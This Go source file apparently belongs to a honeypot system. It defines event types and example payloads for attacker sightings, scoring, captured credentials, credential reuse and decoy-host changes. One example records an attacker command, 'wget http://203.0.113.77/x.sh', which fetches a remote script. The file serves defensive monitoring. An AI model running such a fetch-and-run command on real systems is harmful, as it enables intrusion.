package event

import (
	"crypto/sha256"
	"net/netip"
	"time"

	"go.cordon.dev/cordon/internal/id"
)

// AttackerID is the id of the attacker with an address: a UUIDv7 that follows
// from the address alone, so that whoever meets him first need not ask anybody.
// Its time says nothing.
func AttackerID(address netip.Addr) string {
	sum := sha256.Sum256([]byte("cordon/attacker/v1\x00" + address.Unmap().WithZone("").String()))
	return id.From(time.Unix(0, 0), [10]byte(sum[:10]))
}

const exampleSession = "01936d2c-5f8e-7abc-9def-0123456789ac"

func exampleContact() Contact {
	address := netip.MustParseAddr("203.0.113.9")
	return Contact{
		Decky: "web-3", Service: "ssh", SourceIP: address.String(), AttackerID: AttackerID(address), Session: exampleSession, OccurredAt: exampleTime(),
	}
}

func attackerEntries() []Entry {
	return []Entry{{
		Name: "AttackerObserved", Topic: TopicAttackerObserved, Pattern: TopicAttackerObserved,
		Purpose: "An address touched a decky for the first time.",
		Level:   Low, Subject: "203.0.113.9",
		Example: AttackerObserved{exampleContact()},
	}, {
		Name: "AttackerScored", Topic: TopicAttackerScored, Pattern: TopicAttackerScored,
		Purpose: "An attacker's score reached 25, 50, 75 or 90. Said once for each, with the reasons.",
		Level:   Medium, Subject: "203.0.113.9 scores 52",
		Example: AttackerScored{
			AttackerID: exampleContact().AttackerID, SourceIP: "203.0.113.9", Score: 52, Threshold: 50, OccurredAt: exampleTime(),
			Terms: []ScoreTerm{{"logged_in", 20, "was let in on 1 decky"}, {"commands", 12, "gave 14 commands"}, {"uploads", 20, "left 1 file"}},
		},
	}, {
		Name: "AttackerUnrecorded", Topic: TopicAttackerUnrecorded, Pattern: TopicAttackerUnrecorded,
		Purpose: "Not all that an attacker did on a day is kept: it was more than one attacker's share, or the disk is nearly full. Said when that is first so, every hour while it grows, and when the day is over.",
		Level:   Medium, Subject: "203.0.113.9",
		Example: AttackerUnrecorded{
			AttackerID: exampleContact().AttackerID, SourceIP: "203.0.113.9", Network: "203.0.113.9/32", Day: "2026-03-14", Observations: 81_204,
			Types: []string{"connected", "request"}, EvidenceBytes: 0, OccurredAt: exampleTime(),
		},
	}, {
		Name: "SessionEnded", Topic: TopicSessionEnded, Pattern: TopicSessionEnded,
		Purpose: "A client's connection to a decky ended.",
		Level:   Info, Subject: "203.0.113.9 on web-3 (ssh)",
		Example: SessionEnded{Contact: exampleContact(), Seconds: 81.4, LoggedIn: true, Attempts: 3, Commands: 14, Artifacts: 1, Transcript: 5120},
	}, {
		Name: "SessionStarted", Topic: TopicSessionStarted, Pattern: TopicSessionStarted,
		Purpose: "A client connected to a decky.",
		Level:   Info, Subject: "203.0.113.9 on web-3 (ssh)",
		Example: SessionStarted{Contact: exampleContact(), SourcePort: 40022},
	}}
}

func credentialEntries() []Entry {
	contact := exampleContact()
	return []Entry{{
		Name: "CredentialCaptured", Topic: TopicCredentialCaptured, Pattern: TopicCredentialCaptured,
		Purpose: "A client tried to log in to a decky. Critical when the secret is one that the leak sensor has found.",
		Level:   Low, Subject: "root on web-3 (ssh)",
		Example: CredentialCaptured{
			Contact: contact, CredentialID: exampleID, Kind: "plaintext", Principal: "root", Fingerprint: exampleFingerprint, Attempts: 1, First: true, Tried: 1,
		},
	}, {
		Name: "ReuseDetected", Topic: TopicReuseDetected, Pattern: TopicReuseDetected,
		Purpose: "One secret was tried on two services or by two addresses. Said when that is first so and whenever another joins.",
		Level:   Medium, Subject: "one secret in 2 places, by 1 address",
		Example: ReuseDetected{
			ReuseID: exampleID, Fingerprint: exampleFingerprint, Kind: "plaintext", Targets: 2, Addresses: 1, Deckies: []string{"db-1", "web-3"},
			Services: []string{"ssh"}, AttackerIDs: []string{contact.AttackerID}, SourceIP: contact.SourceIP, FirstSeen: exampleTime(), OccurredAt: exampleTime(),
		},
	}}
}

func deckyEntries() []Entry {
	return []Entry{{
		Name: "DeckyMutateRequested", Topic: "decky.{id}.mutate_request", Pattern: "decky.*.mutate_request",
		Purpose: "A decky is to become another host of its kind: an operator says so, or its time has come.",
		Level:   Info, Subject: "web-1",
		Example: DeckyMutateRequested{DeckyID: "web-1", Node: "node-1", Trigger: "operator", Generation: 3, OccurredAt: exampleTime()},
	}, {
		Name: "DeckyMutated", Topic: "decky.{id}.mutation", Pattern: "decky.*.mutation",
		Purpose: "A decky has become another host of its kind, with another host name, other keys and perhaps other services; or it is there for the first time (trigger creation).",
		Level:   Info, Subject: "web-1",
		Example: DeckyMutated{
			DeckyID: "web-1", Node: "node-1", Trigger: "operator", Generation: 3, OldHostname: "portal07", Hostname: "www-12",
			OldServices: []string{"ssh:22", "http:80"}, NewServices: []string{"ssh:22", "ftp:21"}, RequestedAt: exampleTime(), OccurredAt: exampleTime().Add(4 * time.Second),
		},
	}, {
		Name: "DeckyStateChanged", Topic: "decky.{id}.state", Pattern: "decky.*.state",
		Purpose: "A decky was opened or stopped, or a port of it cannot be had.",
		Level:   Medium, Subject: "web-1",
		Example: DeckyStateChanged{
			DeckyID: "web-1", Node: "node-1", Archetype: "web-server", Hostname: "portal07", Address: "192.0.2.10", Services: []string{"ssh:22", "redis:6379"},
			State: "degraded", Detail: "ssh: the port is in use by another program", OccurredAt: exampleTime(),
		},
	}, {
		Name: "DeckyTraffic", Topic: "decky.{id}.traffic", Pattern: "decky.*.traffic",
		Purpose: "A client did something on a decky: tried a login, gave a command, left a file. What it sent is evidence, sealed beside it; here is a redacted summary.",
		Level:   Low, Subject: "command on web-3 (ssh)",
		Example: DeckyTraffic{Contact: exampleContact(), Type: "command", Number: 7, Interaction: true, Summary: "wget http://203.0.113.77/x.sh", Hosts: []string{"203.0.113.77"}},
	}}
}
